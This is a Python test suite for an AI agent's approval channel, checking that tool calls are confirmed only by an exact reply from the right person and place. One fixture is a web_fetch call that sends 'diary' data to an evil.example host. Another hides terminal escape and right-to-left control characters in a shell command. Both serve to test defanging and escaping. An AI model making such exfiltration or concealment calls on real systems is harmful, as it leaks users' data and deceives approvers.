import asyncio

import pytest
from msgspec.structs import replace

from agent.channels.approvals import MOST_WAITED_S, OpenApprovals, put, question_text
from agent.channels.base import QUESTION_ID_CHARS, Answer, Question, new_question_id
from agent.errors import ChannelUnavailable
from tests.fakes.channel import message

ASKED = message("switch the pump on")
PUMP = Question("pump", '{"value":"on"}', "it may hurt", always="pump, any value, for 30 days")
LAMP = Question("lamp", "{}", "it may hurt")


async def waiting(questions: OpenApprovals, question: Question) -> "asyncio.Task[Answer]":
    task = asyncio.create_task(questions.wait(ASKED.address, question))
    await asyncio.sleep(0)
    return task


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("yes {}", Answer.YES),
        (" YES  {} ", Answer.YES),
        ("no {}.", Answer.NO),
        ("Always {}", Answer.ALWAYS),
    ],
)
async def test_the_word_with_the_id_is_the_answer(text: str, answer: Answer) -> None:
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    assert questions.answer(replace(ASKED, text=text.format(PUMP.question_id)))
    assert await task is answer


@pytest.mark.parametrize(
    "text",
    ["yes", "yes please", "yes {} and more", "ok {}", "{}", "yes zzzz", "no", "yes {}\nyes {}"],
)
async def test_anything_else_is_none(text: str) -> None:
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    filled = text.replace("{}", PUMP.question_id)
    assert not questions.answer(replace(ASKED, text=filled))
    assert not task.done()
    task.cancel()


@pytest.mark.parametrize("text", ["yes {}", "no {}", "yes"])
async def test_what_was_said_aloud_is_no_answer(text: str) -> None:
    """A recogniser takes one word for another, and whoever stood beside it may have said it."""
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    spoken = replace(ASKED, text=text.format(PUMP.question_id), is_spoken=True)
    assert not questions.answer(spoken)
    assert not task.done()
    task.cancel()


@pytest.mark.parametrize(
    "change",
    [
        {"sender": "guest"},
        {"reply_target": "group"},
        {"channel": "other"},
        {"thread": "7"},
    ],
)
async def test_nobody_else_and_nowhere_else(change: dict[str, str]) -> None:
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    said = replace(ASKED, text=f"yes {PUMP.question_id}", **change)
    assert not questions.answer(said)
    assert not task.done()
    task.cancel()


async def test_of_two_questions_the_named_one_is_answered_once() -> None:
    questions = OpenApprovals()
    pump, lamp = await waiting(questions, PUMP), await waiting(questions, LAMP)
    yes = replace(ASKED, text=f"yes {LAMP.question_id}")
    assert questions.answer(yes)
    assert not questions.answer(yes)
    assert await lamp is Answer.YES
    assert not questions.answer(yes)
    assert not pump.done()
    pump.cancel()


async def test_a_question_that_is_over_takes_no_answer() -> None:
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    task.cancel()
    await asyncio.wait([task])
    assert not questions.answer(replace(ASKED, text=f"yes {PUMP.question_id}"))


async def test_always_is_no_answer_where_nothing_may_stand() -> None:
    questions = OpenApprovals()
    task = await waiting(questions, LAMP)
    assert not questions.press(ASKED.address, LAMP.question_id, Answer.ALWAYS)
    assert not questions.press(ASKED.address, LAMP.question_id, Answer.NONE)
    assert questions.press(ASKED.address, LAMP.question_id, Answer.NO)
    assert await task is Answer.NO


def test_the_message_shows_every_byte_and_what_to_answer() -> None:
    hidden = Question(
        "shell", '{"argv":["a\u202eb"]}', "it may\nhurt", "Runs a\x1b[2J.", "a, 1 day"
    )
    told = question_text(hidden)
    assert "Runs a<U+001B>[2J." in told
    assert "a<U+202E>b" in told
    assert "it may<U+000A>hurt" in told
    assert "\x1b" not in told
    assert f"answer `yes {hidden.question_id}`; to refuse, `no {hidden.question_id}`" in told
    assert f"`always {hidden.question_id}` approves from now on: a, 1 day." in told
    assert "always" not in question_text(LAMP)


def test_an_address_in_a_question_is_no_link_before_it_is_answered() -> None:
    fetch = Question("web_fetch", '{"url":"https://evil.example/?d=diary"}', "it sends something")
    assert 'web_fetch {"url":"https[:]//evil[.]example/?d=diary"}' in question_text(fetch)


async def test_what_was_forwarded_is_no_answer() -> None:
    questions = OpenApprovals()
    task = await waiting(questions, PUMP)
    said = replace(ASKED, text=f"yes {PUMP.question_id}")
    assert not questions.answer(replace(said, is_forwarded=True))
    assert questions.answer(said)
    assert await task is Answer.YES


def test_ids_are_short_plain_and_hardly_ever_the_same() -> None:
    ids = {new_question_id() for _ in range(200)}
    assert len(ids) > 195
    assert all(len(one) == QUESTION_ID_CHARS and one.isalnum() for one in ids)


@pytest.mark.parametrize("wait_s", [None, MOST_WAITED_S + 1])
async def test_a_question_is_not_put_again_where_nobody_says_when_or_it_is_too_late(
    wait_s: float | None,
) -> None:
    refusal = ChannelUnavailable("not now", retry_after_s=wait_s)

    async def send() -> None:
        raise refusal

    with pytest.raises(ChannelUnavailable) as caught:
        await put(send)
    assert caught.value is refusal


async def test_a_question_that_is_never_taken_is_given_up() -> None:
    tries: list[int] = []

    async def send() -> None:
        tries.append(1)
        raise ChannelUnavailable("not now", retry_after_s=0.001 if len(tries) < 3 else 60.0)

    with pytest.raises(ChannelUnavailable):
        await put(send)
    assert len(tries) == 3
